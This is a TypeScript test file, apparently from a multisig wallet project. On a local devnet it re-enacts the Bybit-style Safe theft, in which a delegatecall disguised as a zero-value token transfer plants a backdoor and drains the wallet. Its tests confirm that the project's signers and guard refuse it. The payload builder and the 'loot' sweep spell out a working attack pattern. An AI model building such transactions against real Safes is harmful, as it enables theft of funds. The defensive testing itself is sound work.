/**
 * Bybit, 21 February 2025, 1.46 billion dollars: three signers saw a transfer on their screens and signed a delegatecall. Its
 * target had `transfer(address,uint256)`, which wrote the recipient, a contract of the thief's, into slot 0: from then on
 * that contract was the Safe.
 */
import type { EthereumWallet } from '@kuramori/core';
import { encodeFunctionData, getAddress, parseAbi, parseEther, toFunctionSelector, type Hex } from 'viem';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { owners, secretNamed } from '../codec/house.testing.ts';
import { encodePlan, ethereum, shareOf, type Address, type Bound } from '../codec/index.ts';
import { startAnvil, type Anvil } from '../testing/anvil.ts';
import { deploySafe, deploySafes, ours, signedBlindly, type Safes } from '../testing/house.ts';

const zero = '0x0000000000000000000000000000000000000000' as Address;
const thief = getAddress('0x000000000000000000000000000000000badf00d');
const blind = ['owner 1', 'owner 2'].map(secretNamed);
const abi = parseAbi(['function transfer(address to, uint256 units)', 'function sweepETH(address to)']);
const stash = parseEther('401');

let chain: Anvil;
let safes: Safes;
let looksLikeAToken: Hex;
let backdoor: Hex;
beforeAll(async () => {
  chain = await startAnvil();
  safes = await deploySafes(chain);
  looksLikeAToken = await chain.deploy(ours('LooksLikeAToken'));
  backdoor = await chain.deploy(ours('Backdoor'));
});
afterAll(() => chain[Symbol.asyncDispose]());

/** The payload's shape: operation 1, calldata of a token transfer of nothing. */
function payload({ address }: EthereumWallet): Bound {
  const data = encodeFunctionData({ abi, functionName: 'transfer', args: [backdoor, 0n] }).slice(2);
  const tx = {
    to: getAddress(looksLikeAToken) as string as Address,
    value: 0n,
    data,
    operation: 1,
    nonce: 0n,
  };
  const gas = { safeTxGas: 45_746n, baseGas: 0n, gasPrice: 0n, gasToken: zero, refundReceiver: zero };
  return { chainId: 31_337n, safe: address as Address, tx: { ...tx, ...gas } };
}

async function stocked(guarded: boolean): Promise<EthereumWallet> {
  const wallet = await deploySafe(chain, safes, { guarded });
  await chain.client.setBalance({ address: wallet.address as Hex, value: stash });
  return wallet;
}

/** What the thief does next: anybody may ask the backdoor. */
async function loot({ address }: EthereumWallet): Promise<bigint> {
  await chain.client.setBalance({ address: thief, value: 0n });
  await chain.send(address as Hex, encodeFunctionData({ abi, functionName: 'sweepETH', args: [thief] }));
  return chain.client.getBalance({ address: thief });
}

it('no owner of ours signs it: the share says what the bytes do, not what a screen says', async () => {
  const wallet = await stocked(true);
  const bound = payload(wallet);
  for (const { publicKey, sign } of owners) {
    const [plan, share] = [encodePlan(bound), shareOf(bound, publicKey as Address)];
    expect(ethereum.explainShare(wallet, plan, share, 'devnet')).toEqual({
      kind: 'refused',
      why: 'plan: operation: a delegatecall, by which another contract acts as the Safe',
    });
    expect(() => sign(plan, share)).toThrow('delegatecall');
  }
});

it('if two had signed: our guard refuses it, and the coins are there', async () => {
  const wallet = await stocked(true);
  const sent = await chain.send(wallet.address as Hex, signedBlindly(payload(wallet), blind));
  expect(sent.ok).toBe(false);
  expect(sent.why).toContain(toFunctionSelector('DelegateCallRefused(uint8)'));
  expect(await loot(wallet)).toBe(0n);
  expect(await chain.client.getBalance({ address: wallet.address as Hex })).toBe(stash);
});

it('planted: without the guard it takes everything', async () => {
  const wallet = await stocked(false);
  expect(await chain.send(wallet.address as Hex, signedBlindly(payload(wallet), blind))).toMatchObject({
    ok: true,
  });
  expect(await loot(wallet)).toBe(stash);
});
